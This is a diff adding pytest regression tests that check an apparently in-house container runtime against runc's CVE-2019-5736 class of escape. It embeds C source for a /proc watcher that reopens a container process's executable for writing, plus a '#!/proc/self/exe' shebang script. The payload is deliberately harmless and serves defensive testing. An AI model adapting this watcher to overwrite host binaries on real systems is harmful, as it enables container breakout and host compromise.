@@ -1,0 +1,227 @@
+"""Escapes from a hostile image (runc's CVE-2019-5736 class), against the runtime under test.
+
+The image's entrypoint is a script whose first line is `#!/proc/self/exe`: the kernel then runs,
+inside the container, whatever binary does the final execve. It must be a sealed copy that
+nothing can write (runc: a memfd of itself; rt: the rt-exec helper), never a host file.
+"""
+import hashlib
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+
+import pytest
+
+from conftest import REPO, base_config, is_rt, runtime_path
+
+pytestmark = pytest.mark.root
+
+# The CVE's watcher, run in the container: it waits for a process that runs something other than
+# busybox (what the kernel ran for `#!/proc/self/exe`), holds its /proc/PID/exe, waits for it to
+# exit (ETXTBSY protects a running binary, not an exited one), then opens the file for writing.
+# It rewrites the first byte with the byte already there, so a vulnerable runtime is not harmed.
+ATTACK_C = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+static int caught(int pid, const char *link)
+{
+	char path[64];
+	snprintf(path, sizeof path, "/proc/%d/exe", pid);
+	int fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	printf("exe=%s\n", link);
+	fflush(stdout);
+	while (kill(pid, 0) == 0) {
+		char st[64], buf[512];
+		snprintf(st, sizeof st, "/proc/%d/stat", pid);
+		int s = open(st, O_RDONLY);
+		ssize_t n = s < 0 ? -1 : read(s, buf, sizeof buf - 1);
+		if (s >= 0)
+			close(s);
+		if (n <= 0 || strstr(buf, ") Z "))
+			break;
+		usleep(1000);
+	}
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	unsigned char c = 0x7f;
+	int r = open(path, O_RDONLY | O_CLOEXEC);
+	if (r >= 0 && pread(r, &c, 1, 0) != 1)
+		c = 0x7f;
+	int w = open(path, O_WRONLY | O_CLOEXEC);
+	if (w < 0)
+		printf("write=%s\n", strerror(errno));
+	else
+		printf("write=%s\n", pwrite(w, &c, 1, 0) == 1 ? "ok" : strerror(errno));
+	return 1;
+}
+
+int main(int argc, char **argv)
+{
+	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 20);
+	printf("watching\n");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (d && (e = readdir(d))) {
+			int pid = atoi(e->d_name);
+			char path[64], link[4096];
+			if (pid <= 1 || pid == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			ssize_t n = readlink(path, link, sizeof link - 1);
+			if (n <= 0)
+				continue;
+			link[n] = 0;
+			if (strstr(link, "busybox") || strstr(link, "/attack/"))
+				continue;
+			if (caught(pid, link))
+				return 0;
+		}
+		if (d)
+			closedir(d);
+	}
+	printf("timeout\n");
+	return 1;
+}
+"""
+EVIL = "#!/proc/self/exe\nimport sys\nprint('HOST-PYTHON-RAN', sys.executable)\n"
+
+
+@pytest.fixture(scope="module")
+def attack_dir(tmp_path_factory):
+    d = tmp_path_factory.mktemp("attack")
+    cc = shutil.which("cc") or shutil.which("gcc")
+    if cc is None:
+        pytest.fail("these tests need cc (scripts/setup installs gcc)")
+    (d / "attack.c").write_text(ATTACK_C)
+    subprocess.run([cc, "-O2", "-static", "-o", str(d / "attack"), str(d / "attack.c")], check=True)
+    (d / "evil").write_text(EVIL)
+    os.chmod(d / "evil", 0o755)
+    return d
+
+
+def host_binaries(runtime) -> dict[str, str]:
+    """sha256 of the host files that an escape would overwrite."""
+    files = {os.path.realpath(sys.executable), os.path.realpath(runtime.path)}
+    return {f: hashlib.sha256(open(f, "rb").read()).hexdigest() for f in files if os.path.isfile(f)}
+
+
+def with_attack(attack_dir, edit=None):
+    def edit_cfg(cfg):
+        cfg["mounts"].append({"destination": "/attack", "type": "bind", "source": str(attack_dir),
+                              "options": ["rbind", "rw"]})
+        if edit:
+            edit(cfg)
+    return edit_cfg
+
+
+def check_report(out: str, must_catch: bool = True) -> None:
+    """What the watcher caught (the runtime's helper, or its own process in the container) could
+    not be written once it had exited: a sealed memfd (EPERM) or a read-only mount (EROFS).
+    ETXTBSY proves nothing: the same host file may still run elsewhere."""
+    facts = dict(line.split("=", 1) for line in out.splitlines() if "=" in line)
+    if not must_catch and "exe" not in facts:  # runc: its processes are never visible (non-dumpable)
+        return
+    assert "exe" in facts, out
+    assert facts.get("write") in ("Operation not permitted", "Read-only file system"), out
+
+
+def watch_exec(runtime, cid: str, attack_dir, tries: int = 40) -> str:
+    """Run the watcher in `cid`, then exec the shebang script until the watcher has caught it."""
+    out = attack_dir / f"watch-{cid}.out"
+    out.unlink(missing_ok=True)
+    watcher = subprocess.Popen([runtime.path, "--root", runtime.root, "exec", cid, "sh", "-c",
+                                f"/attack/attack 10 > /attack/{out.name}"], stdout=subprocess.DEVNULL)
+    try:
+        for _ in range(200):
+            if out.exists() and "watching" in out.read_text():
+                break
+            time.sleep(0.05)
+        for _ in range(tries):
+            p = runtime("exec", cid, "/attack/evil")
+            assert p.returncode != 0
+            assert "HOST-PYTHON-RAN" not in p.stdout and "Python" not in p.stderr, p.stdout + p.stderr
+            if "write=" in out.read_text():
+                break
+        watcher.wait(timeout=60)
+    finally:
+        if watcher.poll() is None:
+            watcher.kill()
+            watcher.wait()
+    return out.read_text()
+
+
+def test_shebang_entrypoint_runs_no_host_binary(runtime, make_bundle, attack_dir, no_leaks):
+    before = host_binaries(runtime)
+    p = runtime("run", "--bundle", make_bundle(["/attack/evil"], edit=with_attack(attack_dir)), "shebang")
+    assert p.returncode != 0
+    assert "HOST-PYTHON-RAN" not in p.stdout and "Python" not in p.stderr, p.stdout + p.stderr
+    if is_rt(runtime.path):
+        assert "rt-exec: rt's exec helper, not for direct use" in p.stderr
+    assert host_binaries(runtime) == before
+
+
+def test_exec_shebang_cannot_write_the_exe_once_exited(runtime, make_bundle, attack_dir, no_leaks):
+    before = host_binaries(runtime)
+    runtime.create("ex", make_bundle(["sleep", "100"], edit=with_attack(attack_dir)), check=True)
+    runtime("start", "ex", check=True)
+    check_report(watch_exec(runtime, "ex", attack_dir), must_catch=is_rt(runtime.path))
+    runtime("delete", "--force", "ex", check=True)
+    assert host_binaries(runtime) == before
+
+
+@pytest.fixture
+def system_attack_bundle(tmp_path, attack_dir):
+    """An lxc_system container with its own busybox rootfs and the attack at /attack."""
+    if not is_rt(runtime_path()):
+        pytest.skip("rt's lxc_system plugin")
+    rootfs = tmp_path / "rootfs"
+    subprocess.run([os.path.join(REPO, "scripts", "mkrootfs-busybox"), str(rootfs)], check=True)
+    (rootfs / "run").mkdir(exist_ok=True)
+
+    def make(args):
+        cfg = base_config(str(rootfs), args)
+        cfg["root"]["readonly"] = False
+        cfg["mounts"].append({"destination": "/run", "type": "tmpfs", "source": "tmpfs", "options": ["mode=755"]})
+        cfg["linux"]["namespaces"].append({"type": "cgroup"})
+        cfg["annotations"] = {"rt.plugin": "lxc_system"}
+        with_attack(attack_dir)(cfg)
+        d = tmp_path / f"bundle{len(os.listdir(tmp_path))}"
+        d.mkdir()
+        (d / "config.json").write_text(json.dumps(cfg))
+        return str(d)
+    return make
+
+
+def test_system_container_init_and_exec(runtime, system_attack_bundle, attack_dir, no_leaks):
+    """lxc_system: the shebang script as the init, then the watcher and exec in a running one."""
+    before = host_binaries(runtime)
+    runtime.create("sysinit", system_attack_bundle(["/attack/evil"]), check=True)
+    console = os.path.join(runtime.root, "sysinit", "console.log")
+    runtime("start", "sysinit", check=True)
+    for _ in range(200):
+        if runtime.state("sysinit")["status"] == "stopped":
+            break
+        time.sleep(0.05)
+    log = open(console, errors="replace").read()
+    assert "rt's exec helper, not for direct use" in log and "Python" not in log, log
+    runtime("delete", "--force", "sysinit", check=True)
+
+    runtime.create("sysx", system_attack_bundle(["/bin/sh", "-c", "sleep 100"]), check=True)
+    runtime("start", "sysx", check=True)
+    check_report(watch_exec(runtime, "sysx", attack_dir))
+    runtime("delete", "--force", "sysx", check=True)
+    assert host_binaries(runtime) == before
